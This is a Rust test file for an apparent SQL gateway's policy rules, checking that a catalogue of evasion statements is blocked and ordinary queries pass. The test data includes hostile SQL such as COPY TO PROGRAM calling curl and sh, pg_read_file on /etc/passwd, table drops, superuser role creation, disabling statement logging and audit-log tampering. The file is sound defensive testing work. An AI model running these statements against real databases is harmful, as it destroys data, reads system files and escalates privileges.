//! The evasion catalogue: statements written to slip past the bank baseline
//! (examples/bank-baseline.yaml), each of which must still meet the rule meant to stop it.
//! Pure: PostgreSQL's grammar through pg_query, the rules, no server.

use gatehouse_inspect::sql::classify;
use gatehouse_policy::config::from_yaml;
use gatehouse_policy::{Action, Caller, Request, RuleSet};
use std::collections::BTreeMap;

fn baseline() -> RuleSet {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../examples/bank-baseline.yaml"
    );
    let text = std::fs::read_to_string(path).expect("the baseline example");
    from_yaml(&text).unwrap_or_else(|errors| panic!("the baseline is valid: {errors:?}"))
}

struct Who {
    principal: &'static str,
    groups: Vec<String>,
    actors: Vec<&'static str>,
    claims: BTreeMap<String, serde_json::Value>,
}

fn developer() -> Who {
    Who {
        principal: "key:dev",
        groups: vec!["developers".into()],
        actors: vec![],
        claims: BTreeMap::new(),
    }
}

fn decide(rules: &RuleSet, who: &Who, sql: &str) -> (Action, Option<String>) {
    let c = classify(sql);
    let unseen =
        (!c.parsed && c.statements > 0).then_some("PostgreSQL's grammar could not parse it");
    let verdict = rules.decide(&Request {
        caller: Caller {
            principal: who.principal,
            subject: who.principal,
            groups: &who.groups,
            actors: &who.actors,
            claims: &who.claims,
            granted: false,
        },
        connection: "demo",
        statements: &c.detail,
        unseen,
        // A Wednesday at noon: inside business hours.
        now: time::macros::datetime!(2026-12-02 12:00 UTC),
    });
    (verdict.action, verdict.rule)
}

#[test]
fn no_evasion_form_gets_past_the_rule_meant_to_stop_it() {
    let rules = baseline();
    let dev = developer();
    let catalogue: &[(&str, &str)] = &[
        // Comments, case, whitespace.
        ("DROP/**/TABLE accounts", "no-drop-table"),
        ("dRoP\n\tTaBlE accounts", "no-drop-table"),
        ("/* hi */ -- x\nDROP TABLE accounts", "no-drop-table"),
        (
            "/* /* nested */ still comment */ DROP TABLE accounts",
            "no-drop-table",
        ),
        // Quoted and Unicode-escaped identifiers.
        ("DROP TABLE \"accounts\"", "no-drop-table"),
        ("DROP TABLE U&\"acc\\0075nts\"", "no-drop-table"),
        (
            "DROP TABLE IF EXISTS public.accounts, other CASCADE",
            "no-drop-table",
        ),
        // Several statements in one text: the worst one decides.
        ("SELECT 1; DROP TABLE accounts", "no-drop-table"),
        ("SELECT ';'; TRUNCATE accounts", "no-truncate"),
        ("SELECT $$;$$; TRUNCATE accounts", "no-truncate"),
        (
            "SELECT $a$ $$ ; $a$; DELETE FROM accounts",
            "no-unqualified-writes",
        ),
        // Unqualified writes in disguise.
        ("DELETE FROM accounts", "no-unqualified-writes"),
        ("DELETE FROM accounts WHERE true", "no-unqualified-writes"),
        ("DELETE FROM accounts WHERE 1 = 1", "no-unqualified-writes"),
        (
            "DELETE FROM accounts WHERE EXISTS (SELECT 1)",
            "no-unqualified-writes",
        ),
        ("UPDATE accounts SET balance = 0", "no-unqualified-writes"),
        (
            "UPDATE accounts SET balance = 0 WHERE NOT false",
            "no-unqualified-writes",
        ),
        // Writes hidden in CTEs, EXPLAIN ANALYZE, PREPARE, COPY.
        (
            "WITH gone AS (DELETE FROM accounts RETURNING *) SELECT count(*) FROM gone",
            "no-unqualified-writes",
        ),
        (
            "SELECT * FROM (WITH x AS (UPDATE accounts SET b = 1 RETURNING *) SELECT * FROM x) s",
            "no-unqualified-writes",
        ),
        (
            "EXPLAIN ANALYZE DELETE FROM accounts",
            "no-unqualified-writes",
        ),
        (
            "EXPLAIN (ANALYZE, FORMAT JSON) DELETE FROM accounts",
            "no-unqualified-writes",
        ),
        ("PREPARE p AS DELETE FROM accounts", "no-unqualified-writes"),
        (
            "COPY (DELETE FROM accounts RETURNING *) TO STDOUT",
            "no-unqualified-writes",
        ),
        // Shell and files from SQL.
        ("COPY accounts TO PROGRAM 'curl evil'", "no-shell-from-sql"),
        ("copy accounts from program 'sh -c id'", "no-shell-from-sql"),
        ("SELECT pg_read_file('/etc/passwd')", "no-server-files"),
        (
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
            "no-server-files",
        ),
        ("SELECT \"pg_read_file\"('/etc/passwd')", "no-server-files"),
        (
            "SELECT ARRAY[pg_read_file('/etc/passwd')]",
            "no-server-files",
        ),
        (
            "SELECT * FROM pg_read_file('/etc/passwd')",
            "no-server-files",
        ),
        (
            "SELECT x FROM (VALUES (pg_read_file('/etc/passwd'))) v(x)",
            "no-server-files",
        ),
        (
            "SELECT CASE WHEN true THEN pg_ls_dir('.') END",
            "no-server-files",
        ),
        (
            "SELECT 1 ORDER BY pg_read_file('/etc/passwd')",
            "no-server-files",
        ),
        (
            "SELECT count(*) FILTER (WHERE pg_read_file('x') IS NULL) FROM t",
            "no-server-files",
        ),
        ("SELECT lo_import('/etc/passwd')", "no-server-files"),
        (
            "SELECT dblink_exec('host=x', 'DROP TABLE accounts')",
            "no-remote-sql",
        ),
        // Dynamic SQL the gateway cannot see into.
        (
            "DO $$ BEGIN EXECUTE 'DROP TABLE accounts'; END $$",
            "no-do-blocks",
        ),
        (
            "do language plpgsql $body$ begin perform 1; end $body$",
            "no-do-blocks",
        ),
        (
            "SELECT query_to_xml('DELETE FROM accounts RETURNING 1', true, true, '')",
            "no-do-blocks",
        ),
        // Roles, settings, session identity.
        (
            "ALTER SYSTEM SET log_statement = 'none'",
            "no-server-settings",
        ),
        ("SET ROLE postgres", "no-session-authorization"),
        (
            "SET SESSION AUTHORIZATION postgres",
            "no-session-authorization",
        ),
        ("set local role postgres", "no-session-authorization"),
        ("GRANT ALL ON accounts TO public", "no-role-changes"),
        ("CREATE ROLE intruder SUPERUSER", "no-role-changes"),
        ("ALTER ROLE app SUPERUSER", "no-role-changes"),
        ("DROP SCHEMA payments CASCADE", "no-drop-database"),
        // Append-only audit tables, through every door.
        (
            "UPDATE audit.events SET who = 'x' WHERE id = 1",
            "audit-tables-are-append-only",
        ),
        (
            "DELETE FROM audit.events WHERE id = 1",
            "audit-tables-are-append-only",
        ),
        ("TRUNCATE audit.events", "no-truncate"),
        (
            "WITH x AS (DELETE FROM audit.events WHERE id = 1 RETURNING *) SELECT 1",
            "audit-tables-are-append-only",
        ),
        (
            "MERGE INTO audit.events e USING src s ON e.id = s.id WHEN MATCHED THEN DELETE",
            "audit-tables-are-append-only",
        ),
        (
            "ALTER TABLE audit.events DROP COLUMN who",
            "audit-tables-are-append-only",
        ),
        // Payments tables: written by the payments service only (connection rules).
        (
            "INSERT INTO payments.transfers VALUES (1)",
            "payments-writes-by-service-only",
        ),
        (
            "INSERT INTO \"payments\".\"transfers\" SELECT * FROM staging",
            "payments-writes-by-service-only",
        ),
        // Text the grammar cannot parse fails closed for rules that need to see it.
        ("DROP TABLE accounts; SELECT FROM WHERE ((", "no-do-blocks"),
        ("SELEC 1", "no-do-blocks"),
    ];
    assert!(catalogue.len() >= 40);
    let mut failures = Vec::new();
    for (sql, rule) in catalogue {
        let (action, by) = decide(&rules, &dev, sql);
        if action != Action::Block || by.as_deref() != Some(rule) {
            failures.push(format!(
                "{sql:?}: {action:?} by {by:?}, wanted block by {rule}"
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} evasions:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn ordinary_work_is_not_blocked() {
    let rules = baseline();
    let dev = developer();
    for sql in [
        "SELECT * FROM accounts WHERE id = 1",
        "UPDATE accounts SET balance = balance - 10 WHERE id = 7",
        "DELETE FROM sessions WHERE expires_at < now()",
        "INSERT INTO audit.events (who) VALUES ('me')",
        "BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT",
        "EXPLAIN DELETE FROM accounts",
        "SET search_path = app, public",
        "CREATE TABLE scratch (a int)",
        "",
    ] {
        assert_eq!(decide(&rules, &dev, sql).0, Action::Allow, "{sql}");
    }
}

#[test]
fn identity_claims_time_and_the_actor_chain_select_rules() {
    let rules = baseline();
    let agent = Who {
        principal: "https://idp#alice@example.com",
        groups: vec!["analysts".into()],
        actors: vec!["agent-7"],
        claims: BTreeMap::new(),
    };
    let alice = Who {
        actors: vec![],
        ..Who {
            principal: "https://idp#alice@example.com",
            groups: vec!["analysts".into()],
            actors: vec![],
            claims: BTreeMap::new(),
        }
    };
    let write = "UPDATE accounts SET note = 'x' WHERE id = 1";
    assert_eq!(
        decide(&rules, &agent, write),
        (Action::Block, Some("agents-read-only".into())),
        "an agent acting for alice may not write"
    );
    assert_eq!(
        decide(&rules, &alice, write).0,
        Action::Allow,
        "alice herself may"
    );
    assert_eq!(
        decide(&rules, &agent, "SELECT * FROM accounts").0,
        Action::Allow
    );

    let ci = |branch: &str, env: &str| Who {
        principal: "https://ci#repo:bank/payments",
        groups: vec!["ci".into()],
        actors: vec![],
        claims: [
            ("ref".to_owned(), serde_json::json!(branch)),
            ("environment".to_owned(), serde_json::json!(env)),
        ]
        .into_iter()
        .collect(),
    };
    let migration = "ALTER TABLE accounts ADD COLUMN note text";
    assert_eq!(
        decide(&rules, &ci("refs/heads/main", "production"), migration).0,
        Action::Allow
    );
    assert_eq!(
        decide(&rules, &ci("refs/heads/feature-x", "production"), migration),
        (Action::Block, Some("ci-migrations-elsewhere".into()))
    );

    let break_glass = Who {
        principal: "key:oncall",
        groups: vec!["dba-break-glass".into()],
        actors: vec![],
        claims: BTreeMap::new(),
    };
    assert_eq!(
        decide(&rules, &break_glass, "DROP TABLE accounts").0,
        Action::Allow
    );
}

#[test]
fn observe_rules_record_without_acting() {
    let rules = baseline();
    let c = classify("CREATE INDEX i ON accounts (id)");
    let groups = vec!["developers".to_owned()];
    let verdict = rules.decide(&Request {
        caller: Caller {
            principal: "key:dev",
            subject: "key:dev",
            groups: &groups,
            actors: &[],
            claims: &BTreeMap::new(),
            granted: false,
        },
        connection: "demo",
        statements: &c.detail,
        unseen: None,
        now: time::OffsetDateTime::now_utc(),
    });
    assert_eq!(verdict.action, Action::Allow);
    assert_eq!(verdict.observed.len(), 1);
    assert_eq!(verdict.observed[0].rule, "watch-ddl-by-developers");
    assert_eq!(verdict.observed[0].would, Action::Block);
}

#[test]
fn the_policy_hash_names_the_rules_not_the_file() {
    let a = baseline();
    let b = baseline();
    assert_eq!(a.hash(), b.hash());
    assert_eq!(a.hash().len(), 64);
    assert_ne!(a.hash(), RuleSet::allow_all().hash());
}

#[test]
fn cel_conditions_say_what_lists_cannot() {
    let rules = from_yaml(
        r#"
connections: {}
policy:
  rules:
    - name: prod-payments-writes-from-ci-main-only
      action: block
      reason: in production, payments tables are written by CI from main only
      match:
        when: >-
          claims.environment == "production"
          && statement.tables_written.exists(t, t.startsWith("payments."))
          && !("ci" in groups && claims.ref == "refs/heads/main")
"#,
    )
    .expect("valid");
    let who = |env: &str, groups: &[&str], r#ref: &str| Who {
        principal: "https://idp#x",
        groups: groups.iter().map(|g| g.to_string()).collect(),
        actors: vec![],
        claims: [
            ("environment".to_owned(), serde_json::json!(env)),
            ("ref".to_owned(), serde_json::json!(r#ref)),
        ]
        .into_iter()
        .collect(),
    };
    let write = "UPDATE payments.transfers SET state = 'x' WHERE id = 1";
    let prod_dev = who("production", &["developers"], "refs/heads/main");
    assert_eq!(
        decide(&rules, &prod_dev, write),
        (
            Action::Block,
            Some("prod-payments-writes-from-ci-main-only".into())
        )
    );
    assert_eq!(
        decide(
            &rules,
            &who("production", &["ci"], "refs/heads/main"),
            write
        )
        .0,
        Action::Allow
    );
    assert_eq!(
        decide(&rules, &who("production", &["ci"], "refs/heads/x"), write).0,
        Action::Block
    );
    assert_eq!(
        decide(&rules, &who("staging", &["developers"], ""), write).0,
        Action::Allow
    );
    assert_eq!(
        decide(&rules, &prod_dev, "SELECT * FROM payments.transfers").0,
        Action::Allow
    );
    // A statement whose effect is hidden cannot be ruled out by a condition on the statement.
    assert_eq!(
        decide(
            &rules,
            &prod_dev,
            "DO $$ BEGIN UPDATE payments.transfers SET state = 'x'; END $$"
        )
        .0,
        Action::Block
    );
    // An API key has no claims: the condition errs on a missing key, and a blocking rule
    // applies rather than letting the statement through.
    let key = Who {
        principal: "key:k",
        groups: vec![],
        actors: vec![],
        claims: BTreeMap::new(),
    };
    assert_eq!(decide(&rules, &key, write).0, Action::Block);
}

#[test]
fn a_bad_cel_condition_is_a_config_error() {
    let errors = from_yaml(
        "connections: {}\npolicy:\n  rules:\n    - name: r\n      action: block\n      reason: x\n      match: { when: 'claims.env == ' }\n",
    )
    .unwrap_err();
    assert!(
        errors[0].starts_with("policy.rules.[0].match.when: not a valid CEL expression"),
        "{errors:?}"
    );
}
